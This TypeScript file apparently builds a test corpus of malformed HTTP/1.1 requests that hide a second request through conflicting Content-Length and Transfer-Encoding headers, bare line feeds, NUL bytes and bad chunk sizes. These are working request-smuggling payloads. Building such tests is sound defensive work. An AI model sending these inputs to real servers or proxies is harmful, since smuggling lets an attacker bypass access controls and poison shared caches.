interface Hiding {
  /** Of a list that anybody may read. */
  readonly read: string;
  /** A whole request, which must not be taken for one. */
  readonly smuggled: string;
}

/** G1: what two readers may read in two ways, by its name; the first reader's request ends before `smuggled`, the other's behind it. */
export function smugglingCorpus({ read, smuggled }: Hiding): [name: string, bytes: string][] {
  const post = "POST /products HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n";
  const get = `GET ${read} HTTP/1.1\r\nHost: shop\r\n`;
  const chunked = `${post}Transfer-Encoding: chunked\r\n\r\n`;
  const noChunks = `0\r\n\r\n${smuggled}`;
  return [
    [
      "a length and chunks",
      `${post}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${noChunks}`,
    ],
    [
      "chunks and a length",
      `${post}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${noChunks}`,
    ],
    ["two lengths", `${post}Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}${smuggled}`],
    ["two lengths in one", `${post}Content-Length: 2, 40\r\n\r\n{}${smuggled}`],
    ["a signed length", `${post}Content-Length: +2\r\n\r\n{}${smuggled}`],
    ["a length below nothing", `${post}Content-Length: -2\r\n\r\n{}${smuggled}`],
    ["a length in hexadecimal", `${post}Content-Length: 0x2\r\n\r\n{}${smuggled}`],
    ["a length beyond all numbers", `${post}Content-Length: 18446744073709551618\r\n\r\n{}`],
    ["an odd coding", `${post}Transfer-Encoding: xchunked\r\n\r\n${noChunks}`],
    ["chunked, but not last", `${post}Transfer-Encoding: chunked, identity\r\n\r\n${noChunks}`],
    [
      "chunked twice",
      `${post}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n${noChunks}`,
    ],
    [
      "chunked and another, in two lines",
      `${post}Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n\r\n${noChunks}`,
    ],
    ["a quoted coding", `${post}Transfer-Encoding: "chunked"\r\n\r\n${noChunks}`],
    ["a coding behind a vertical tab", `${post}Transfer-Encoding: \vchunked\r\n\r\n${noChunks}`],
    ["chunks of something packed", `${post}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n`],
    ["a space before the colon", `${post}Transfer-Encoding : chunked\r\n\r\n${noChunks}`],
    ["a space before a header", `GET ${read} HTTP/1.1\r\n Host: shop\r\n\r\n${smuggled}`],
    ["bare line feeds", `GET ${read} HTTP/1.1\nHost: shop\n\n${smuggled}`],
    ["a bare line feed among others", `${get}X-One: 1\nX-Two: 2\r\n\r\n${smuggled}`],
    ["a bare carriage return", `${get}X-One: 1\rX-Two: 2\r\n\r\n${smuggled}`],
    ["a folded header", `${get}X-One: 1\r\n and: more\r\n\r\n${smuggled}`],
    ["a folded coding", `${post}Transfer-Encoding:\r\n chunked\r\n\r\n${noChunks}`],
    ["NUL in a header", `${get}X-One: \0\r\n\r\n${smuggled}`],
    ["NUL in a header's name", `${get}X\0One: 1\r\n\r\n${smuggled}`],
    ["a header without a name", `${get}: 1\r\n\r\n${smuggled}`],
    ["a header without a colon", `${get}X-One\r\n\r\n${smuggled}`],
    ["a bad chunk size", `${chunked}zz\r\n{}\r\n${noChunks}`],
    ["a signed chunk size", `${chunked}+2\r\n{}\r\n${noChunks}`],
    ["a chunk size in another notation", `${chunked}0x2\r\n{}\r\n${noChunks}`],
    ["a chunk size beyond all numbers", `${chunked}10000000000000002\r\n{}\r\n${noChunks}`],
    ["a chunk size and a bare line feed", `${chunked}2\n{}\r\n${noChunks}`],
    ["a chunk that is longer than it says", `${chunked}1\r\n{}}\r\n${noChunks}`],
    ["a chunk without its end", `${chunked}2\r\n{}${noChunks}`],
    ["a line feed in a chunk's note", `${chunked}2;note=\n2\r\n{}\r\n${noChunks}`],
    ["another protocol", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${smuggled}`],
    ["a version that is none", `GET ${read} HTTP/1.9\r\nHost: shop\r\n\r\n${smuggled}`],
    ["no version at all", `GET ${read}\r\n\r\n${smuggled}`],
  ];
}
